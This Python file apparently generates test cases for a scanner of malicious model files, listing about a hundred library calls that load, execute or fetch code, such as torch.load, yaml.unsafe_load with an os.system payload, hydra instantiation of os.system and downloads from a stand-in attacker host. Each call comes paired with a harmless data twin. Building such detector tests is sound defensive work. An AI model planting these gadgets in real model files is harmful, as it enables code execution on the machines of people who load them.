"""Direct calls of gadgets in the libraries that surround models."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from corpora.assembly import COMMAND, EXPRESSION, SOURCE, call, described
from corpora.case import Case, Technique

if TYPE_CHECKING:
    from collections.abc import Iterator

URL: Final = "https://attacker.invalid/model"
FILE: Final = "attacker.bin"

CALLS: Final[tuple[tuple[str, str, tuple[object, ...]], ...]] = (
    ("torch", "load", (FILE,)),
    ("torch.serialization", "load", (FILE,)),
    ("torch", "save", ({}, FILE)),
    ("torch.hub", "load", ("attacker/repository", "model")),
    ("torch.hub", "load_state_dict_from_url", (URL,)),
    ("torch.hub", "download_url_to_file", (URL, FILE)),
    ("torch.utils.model_zoo", "load_url", (URL,)),
    ("torch.jit", "load", (FILE,)),
    ("torch._C", "import_ir_module", (None, FILE)),
    ("torch._ops", "_Ops.load_library", (None, "attacker.so")),
    ("torch._classes", "_Classes.load_library", (None, "attacker.so")),
    ("torch.utils.cpp_extension", "load", ("name", ["attacker.cpp"])),
    ("torch.utils.cpp_extension", "load_inline", ("name", "int main;")),
    ("torch.utils.collect_env", "run", (COMMAND,)),
    ("torch._inductor.codecache", "compile_file", ("", "", ["sh", "-c", COMMAND])),
    ("torch.package", "PackageImporter", (FILE,)),
    ("torch.fx.graph_module", "_forward_from_src", (SOURCE, {})),
    ("torch.fx.graph_module", "_exec_with_source", (SOURCE, {})),
    ("torch.fx.graph_module", "reduce_graph_module", ({"_code": SOURCE}, "")),
    ("torch.distributed.rpc", "init_rpc", ("worker",)),
    ("torch.distributed.run", "main", ([FILE],)),
    ("torch.onnx.utils", "_export_file", (b"", FILE, 0, {})),
    ("torch.multiprocessing", "spawn", (None,)),
    ("numpy", "load", (FILE, None, True)),
    ("numpy", "save", (FILE, [1])),
    ("numpy", "savetxt", (FILE, [1])),
    ("numpy", "fromfile", (FILE,)),
    ("numpy", "memmap", (FILE, "u1", "w+", 0, 8)),
    ("numpy", "genfromtxt", (URL,)),
    ("numpy.f2py", "compile", ("attacker.f",)),
    ("numpy.f2py.crackfortran", "myeval", (EXPRESSION,)),
    ("numpy.testing._private.utils", "runstring", (SOURCE, {})),
    ("numpy.testing", "rundocs", ("attacker.py",)),
    ("numpy.distutils.exec_command", "exec_command", (COMMAND,)),
    ("numpy.ctypeslib", "load_library", ("attacker", ".")),
    ("numpy.lib.npyio", "DataSource", (FILE,)),
    ("joblib", "load", (FILE,)),
    ("joblib.numpy_pickle", "load", (FILE,)),
    ("joblib", "dump", ({}, FILE)),
    ("joblib.memory", "Memory", (FILE,)),
    ("pandas", "read_pickle", (FILE,)),
    ("pandas.io.pickle", "read_pickle", (URL,)),
    ("pandas", "read_csv", (URL,)),
    ("pandas.io.parsers.readers", "read_csv", (URL,)),
    ("pandas", "read_html", (URL,)),
    ("pandas", "eval", (EXPRESSION,)),
    ("pandas.core.computation.eval", "eval", (EXPRESSION,)),
    ("pandas.io.common", "get_handle", (FILE, "w")),
    ("sklearn.datasets", "fetch_openml", ("attacker",)),
    ("sklearn.datasets", "load_svmlight_file", (FILE,)),
    ("scipy.io", "loadmat", (FILE,)),
    ("scipy.io", "savemat", (FILE, {})),
    ("transformers", "pipeline", ("text-generation", "attacker/model")),
    ("transformers", "AutoModel.from_pretrained", ("attacker/model",)),
    ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", ("a.B", "attacker/model")),
    ("huggingface_hub", "hf_hub_download", ("attacker/model", FILE)),
    ("datasets", "load_dataset", ("attacker/data",)),
    ("diffusers", "DiffusionPipeline.from_pretrained", ("attacker/model",)),
    ("keras.models", "load_model", (FILE,)),
    ("tensorflow.python.ops.gen_io_ops", "write_file", (FILE, "x")),
    ("mlflow.projects.backend.local", "_run_entry_point", (COMMAND, ".", "", "")),
    ("mlflow.pyfunc", "load_model", (FILE,)),
    ("onnx", "load", (FILE,)),
    ("onnxruntime", "InferenceSession", (FILE,)),
    ("xgboost.core", "_load_lib", ()),
    ("lightning.fabric.utilities.cloud_io", "_load", (URL,)),
    ("hydra.utils", "instantiate", ({"_target_": "os.system"},)),
    ("hydra._internal.utils", "_locate", ("os.system",)),
    ("ultralytics", "YOLO", (FILE,)),
    ("ray", "init", ()),
    ("dill", "load_session", (FILE,)),
    ("dill._dill", "_import_module", ("os.system",)),
    ("dill._dill", "_eval_repr", (EXPRESSION,)),
    ("yaml", "unsafe_load", ("!!python/object/apply:os.system [x]",)),
    ("jsonpickle", "decode", ('{"py/reduce": []}',)),
    ("sympy", "sympify", (EXPRESSION,)),
    ("sympy.parsing.sympy_parser", "parse_expr", (EXPRESSION,)),
    ("numexpr", "evaluate", (EXPRESSION,)),
    ("nltk.data", "load", (URL,)),
    ("requests", "get", (URL,)),
    ("requests.api", "get", (URL,)),
    ("aiohttp.client", "ClientSession", ()),
    ("urllib3", "PoolManager", ()),
    ("httpx", "get", (URL,)),
    ("paramiko.client", "SSHClient", ()),
    ("fsspec", "open", (URL,)),
    ("IPython", "start_ipython", ()),
    ("IPython.utils.process", "system", (COMMAND,)),
    ("setuptools.sandbox", "run_setup", ("setup.py", [])),
    ("setuptools.command.easy_install", "main", ([],)),
    ("pkg_resources", "run_script", ("attacker", "script")),
    ("Cython.Build.Inline", "cython_inline", ("1",)),
    ("cffi.api", "FFI", ()),
    ("pytest", "main", ([],)),
    ("jinja2", "Template", ("{{ 1 }}",)),
    ("fire", "Fire", (None,)),
    ("sh", "Command", ("sh",)),
    ("psutil", "Popen", (["sh"],)),
    ("gradio", "load", ("attacker/space",)),
    ("attacker_package", "run", ()),  # no list knows it
)


def cases() -> Iterator[Case]:
    """Yield one case for each call, whose twin holds the same words as data."""
    for module, name, arguments in CALLS:
        yield Case(
            name=f"{module}:{name}",
            technique=Technique.FRAMEWORKS,
            data=call(module, name, *arguments).finished(),
            twin=described(module, name, arguments),
        )
